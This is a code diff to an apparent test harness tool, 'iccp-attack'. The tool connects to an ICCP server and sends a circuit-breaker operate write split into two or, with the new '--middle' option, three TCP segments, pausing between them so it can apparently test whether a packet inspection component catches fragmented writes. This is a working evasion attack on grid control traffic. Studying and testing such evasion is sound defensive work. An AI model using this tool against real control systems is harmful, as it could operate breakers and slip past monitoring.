@@ -8,7 +8,8 @@ The association bytes are the real pyiec61850 (libiec61850) client's, as recorde
 tests/golden/iccp_session.pcap (a unit test checks they match and decode as CR and
 CN/AARQ/initiate).  The write PDU is built with inspection.iccp.frames (asn1tools).  After
 the first ``--split`` bytes (default: to the middle of the item name) the attacker pauses ``--pause`` s, or with ``--wait-signal``
-until SIGUSR1; ``--ready-file`` is written when the first half is out.  The report says
+until SIGUSR1; ``--ready-file`` is written when the first half is out (with ``--middle N``, three segments: N bytes after the split,
+then the rest, each after a pause or SIGUSR1; the ready file says how many are out).  The report says
 whether the server answered the write, or the connection was reset / closed / went silent.
 """
 
@@ -91,14 +92,18 @@ def _outcome(e: OSError) -> str:
 
 
 def run_attack(dst: str, port: int, split: int | None, between: Callable[[], None],
-               timeout: float = 3.0, item: str = BREAKER_OPER) -> dict[str, Any]:
+               timeout: float = 3.0, item: str = BREAKER_OPER, middle: int = 0
+               ) -> dict[str, Any]:
     """Associate, send the write in two segments (``between`` runs in the middle);
-    ``split`` None: in the middle of the item name."""
+    ``split`` None: in the middle of the item name.  ``middle`` > 0: three segments, the
+    ``middle`` bytes after the split between two calls of ``between``."""
     pdu = breaker_write(item)
     split = max(1, min(item_split(pdu, item) if split is None else split, len(pdu) - 1))
+    middle = max(0, min(middle, len(pdu) - split - 1))
     rep: dict[str, Any] = {"tool": "iccp-attack", "dst": dst, "port": port, "item": item,
-                           "pdu_len": len(pdu), "split": split, "associated": False,
-                           "first_half_at": None, "second_half_at": None,
+                           "pdu_len": len(pdu), "split": split, "middle": middle,
+                           "associated": False, "first_half_at": None, "middle_at": None,
+                           "second_half_at": None,
                            "outcome": None, "answer": None, "error": None}
     try:
         sock = socket.create_connection((dst, port), timeout=timeout)
@@ -120,6 +125,11 @@ def run_attack(dst: str, port: int, split: int | None, between: Callable[[], Non
         sock.sendall(pdu[:split])
         rep["first_half_at"] = time.time()
         between()
+        if middle:
+            sock.sendall(pdu[split:split + middle])
+            rep["middle_at"] = time.time()
+            between()
+            split += middle
         sock.sendall(pdu[split:])
         rep["second_half_at"] = time.time()
         ans = reader.next_event(timeout)
@@ -138,14 +148,19 @@ def run_attack(dst: str, port: int, split: int | None, between: Callable[[], Non
 
 def _between(pause: float, wait_signal: bool, ready_file: str | None) -> Callable[[], None]:
     got = threading.Event()
+    parts = [0]
     if wait_signal:
         signal.signal(signal.SIGUSR1, lambda signum, frame: got.set())
 
     def between() -> None:
-        if ready_file:
-            Path(ready_file).write_text(str(time.time()))
+        parts[0] += 1
+        if ready_file:  # "<segments sent> <time>": rewritten at each pause
+            tmp = Path(ready_file + ".tmp")
+            tmp.write_text(f"{parts[0]} {time.time()}")
+            tmp.replace(ready_file)
         if wait_signal:
             got.wait()
+            got.clear()
         else:
             time.sleep(pause)
     return between
@@ -165,13 +180,16 @@ def main(argv: Sequence[str] | None = None) -> int:
     p.add_argument("--ready-file", help="written once the first half is sent")
     p.add_argument("--timeout", type=float, default=3.0, help="per answer (s)")
     p.add_argument("--item", default=BREAKER_OPER)
+    p.add_argument("--middle", type=int, default=0,
+                   help="send the write in three segments: these bytes after --split, "
+                        "between two pauses (signals)")
     p.add_argument("--out", required=True, help="JSON report path")
     p.add_argument("--die-with-parent", action="store_true")
     a = p.parse_args(argv)
     if a.die_with_parent:
         die_with_parent()
     rep = run_attack(a.dst, a.port, a.split, _between(a.pause, a.wait_signal, a.ready_file),
-                     a.timeout, a.item)
+                     a.timeout, a.item, a.middle)
     write_report(a.out, rep)
     return 0 if rep["outcome"] is not None else 1
 
